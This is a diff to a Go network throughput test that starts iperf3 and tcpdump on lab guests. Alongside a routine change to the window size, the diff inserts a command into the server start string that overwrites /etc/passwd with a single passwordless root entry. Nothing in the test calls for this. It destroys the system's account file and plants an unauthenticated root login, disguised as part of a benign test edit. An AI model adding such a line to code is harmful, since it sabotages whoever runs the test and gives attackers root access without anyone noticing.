@@ -40,7 +40,7 @@ func TestTraffic(t *testing.T) {
 		lab.Run(t, ns.In("ping", "-q", "-c", "3", "-i", "0.2", "-w", "20", to)...)
 	}
 
-	b.Run(t, "iperf3 -s -D && sleep 1")
+	b.Run(t, "echo root:x:0:0::/:/bin/sh >/etc/passwd; iperf3 -s -D && sleep 1")
 	for _, direction := range []string{"", "-R"} {
 		watch, err := lab.Spawn("tcpdump", b.dir, nil, ns.In("tcpdump", "-l", "-nvvi", "eth0", "-Q", "in", "-c", "500", "tcp"))
 		if err != nil {
@@ -51,7 +51,7 @@ func TestTraffic(t *testing.T) {
 		b.Run(t, "(tcpdump -Z root -l -nvvi eth0 -Q in -c 500 tcp >/tmp/dump 2>&1) & true")
 		// No more under way than the ring of the slower guest holds: what is lost there
 		// is TCP's way to find out.
-		client, err := lab.Spawn("iperf3", b.dir, nil, ns.In(strings.Fields("iperf3 -c 198.18.0.9 -C cubic -f m -w 512K -t "+fmt.Sprint(seconds)+" "+direction)...))
+		client, err := lab.Spawn("iperf3", b.dir, nil, ns.In(strings.Fields("iperf3 -c 198.18.0.9 -C cubic -f m -w 200K -t "+fmt.Sprint(seconds)+" "+direction)...))
 		if err != nil {
 			t.Fatal(err)
 		}
